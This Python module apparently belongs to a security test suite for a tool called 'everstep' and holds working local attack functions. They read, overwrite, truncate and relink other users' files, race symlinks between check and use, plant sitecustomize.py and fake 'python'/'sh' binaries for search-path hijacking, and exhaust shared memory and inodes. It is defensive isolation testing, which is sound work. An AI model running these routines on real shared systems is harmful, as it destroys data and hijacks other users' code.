"""Attacks on files: reading, writing, planting, locking, filling."""

import contextlib
import fcntl
import os
import select
import stat
import struct
import time

from figures.second.base import HELD, INOTIFY, LIBC, MY, ORDERS, OURS, OWN, SHARED, attack, others_entries, secret


@attack
def read_every_file():
    gained = []
    for path in others_entries():
        with contextlib.suppress(OSError):
            if stat.S_ISREG(os.lstat(path).st_mode):
                with open(path, "rb") as f:
                    gained += secret(f.read(64 << 20), path)
    return gained


@attack
def write_every_file():
    gained = []
    for path in others_entries():
        with contextlib.suppress(OSError):
            if stat.S_ISREG(os.lstat(path).st_mode):
                with open(path, "r+b") as f:
                    f.write(b"attacked")
                gained.append(f"{path}: written")
    return gained


@attack
def list_directories():
    gained = []
    for path in others_entries():
        with contextlib.suppress(OSError):
            # The user's own directories and torch's may be open, but not those that everstep made.
            ours = path.startswith(tuple(OURS)) or "everstep" in os.path.basename(path)
            if ours and stat.S_ISDIR(os.lstat(path).st_mode) and path not in SHARED + OURS[1:]:
                os.listdir(path)
                gained.append(f"{path}: listed")
    return gained


@attack
def create_in_directories():
    gained = []
    for path in others_entries():
        with contextlib.suppress(OSError):
            if stat.S_ISDIR(os.lstat(path).st_mode) and path not in SHARED:
                os.close(os.open(os.path.join(path, "planted"), os.O_CREAT | os.O_EXCL | os.O_WRONLY))
                gained.append(f"{path}: a file was created")
    return gained


@attack
def rename_and_remove():
    gained = []
    for path in others_entries():
        if path not in SHARED:
            for what in (lambda p: os.rename(p, p + ".gone"), os.unlink, os.rmdir):
                with contextlib.suppress(OSError):
                    what(path)
                    gained.append(f"{path}: removed or renamed")
    return gained


@attack
def hard_links():
    gained = []
    for path in others_entries():
        with contextlib.suppress(OSError):
            if stat.S_ISREG(os.lstat(path).st_mode):
                name = os.path.join(MY, f"hard-{time.monotonic_ns()}")
                os.link(path, name)
                HELD.append(name)
                with open(name, "rb") as f:
                    gained += secret(f.read(), f"hard link to {path}")
    return gained


@attack
def change_modes_owners_and_times():
    gained = []
    for path in others_entries():
        for what in (
            lambda p: os.chmod(p, 0o777),
            lambda p: os.chown(p, OWN, OWN),
            os.utime,
            lambda p: os.setxattr(p, "user.x", b"1"),
            lambda p: os.truncate(p, 0),
        ):
            with contextlib.suppress(OSError):
                if path not in SHARED:
                    what(path)
                    gained.append(f"{path}: changed")
    return gained


@attack
def lock_files():
    """Locks whatever can be opened. Whether that blocks anything shows in the job."""
    for path in others_entries():
        with contextlib.suppress(OSError):
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            HELD.append(fd)
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    return []


@attack
def watch_with_inotify():
    """Opens what is created in shared directories at once, possibly before its mode is set."""
    for path in SHARED + OURS:
        LIBC.inotify_add_watch(INOTIFY, path.encode(), 0x100 | 0x80 | 0x20 | 0x2)
    gained = []
    until = time.monotonic() + 0.2
    while time.monotonic() < until:
        if select.select([INOTIFY], [], [], 0.05)[0]:
            with contextlib.suppress(OSError):
                data = os.read(INOTIFY, 65536)
                while data:
                    _, _, _, size = struct.unpack("iIII", data[:16])
                    name = data[16 : 16 + size].rstrip(b"\0")
                    data = data[16 + size :]
                    for top in SHARED:
                        path = os.path.join(top.encode(), name)
                        with contextlib.suppress(OSError):
                            if name and os.lstat(path).st_uid != OWN and stat.S_ISREG(os.lstat(path).st_mode):
                                with open(path, "rb") as f:
                                    gained += secret(f.read(), path.decode(errors="replace"))
    return gained


@attack
def swap_directories_for_links():
    """Turns a directory of ours into a link and back, between the check and the use of its name."""
    for top in SHARED:
        path = os.path.join(top, f"everstep-{ORDERS['victim']}-swap")
        for _ in range(50):
            with contextlib.suppress(OSError):
                os.mkdir(path, 0o777)
                os.rmdir(path)
                os.symlink(ORDERS["precious"], path)
                os.unlink(path)
    return []


@attack
def plant_names():
    """Plants every predictable name as a directory, a link, a FIFO or a file.

    Random names follow once they were seen.
    """
    kinds = [
        lambda p: os.mkdir(p, 0o777), lambda p: os.symlink(ORDERS["precious"], p),
        lambda p: os.symlink(os.path.dirname(ORDERS["precious"]), p),
        lambda p: os.mkfifo(p, 0o666), lambda p: open(p, "x").close(), lambda p: os.symlink(p, p), lambda p: os.symlink("/nowhere", p),
    ]  # fmt: skip
    names = {
        f"everstep-{ORDERS['victim']}",
        "everstep",
        f"everstep-state-{ORDERS['victim']}",
        f"everstep-{ORDERS['victim']}.lock",
        ORDERS["job"],
        f"{ORDERS['job']}.sock",
    }
    for top in SHARED:
        for i, name in enumerate(
            sorted(names | {f"{n}-x" for n in os.listdir(top) if n.startswith("everstep") and len(n) < 60})
        ):
            with contextlib.suppress(OSError):
                kinds[(i + ORDERS["kind"]) % len(kinds)](os.path.join(top, name))
    return []


@attack
def plant_code():
    """Puts modules and programs where a careless search path would find them.

    They leave a mark when run.
    """
    mark = f"import os; open(os.path.join({SHARED[0]!r}, f'ran-as-{{os.getuid()}}'), 'w').close()\n"
    for top in SHARED:
        for name in (
            "sitecustomize.py",
            "usercustomize.py",
            "torch.py",
            "everstep.py",
            "msgpack.py",
            "template.py",
            "numpy.py",
        ):
            with contextlib.suppress(OSError), open(os.path.join(top, name), "x") as f:
                f.write(mark)
        for name in ("python", "python3", "nvidia-smi", "sh", "hostname"):
            with contextlib.suppress(OSError), open(os.path.join(top, name), "x") as f:
                f.write(f"#!/bin/sh\n/usr/bin/touch {SHARED[0]}/ran-as-$(/usr/bin/id -u)\n")
                os.fchmod(f.fileno(), 0o755)
    return []


@attack
def fifos_in_our_way():
    for top in SHARED:
        for name in ("manifest.json", "endpoint.json", "token", "node-0.json", "lock"):
            with contextlib.suppress(OSError):
                os.mkfifo(os.path.join(top, name), 0o666)
    return []


@attack
def fill_shared_memory():
    """Takes all that is free, for a while."""
    path = os.path.join(SHARED[1], "filler")
    with contextlib.suppress(OSError):
        fd = os.open(path, os.O_CREAT | os.O_WRONLY, 0o600)
        with contextlib.suppress(OSError):
            while ORDERS["fill"]:
                os.posix_fallocate(fd, os.fstat(fd).st_size, 4 << 20)
        time.sleep(0.3)
        os.close(fd)
        os.unlink(path)
    return []


@attack
def use_up_inodes():
    made = []
    for i in range(3000):
        path = os.path.join(SHARED[1], f"mine-{i}")
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_CREAT | os.O_EXCL, 0o600))
            made.append(path)
    for path in made:
        os.unlink(path)
    return []
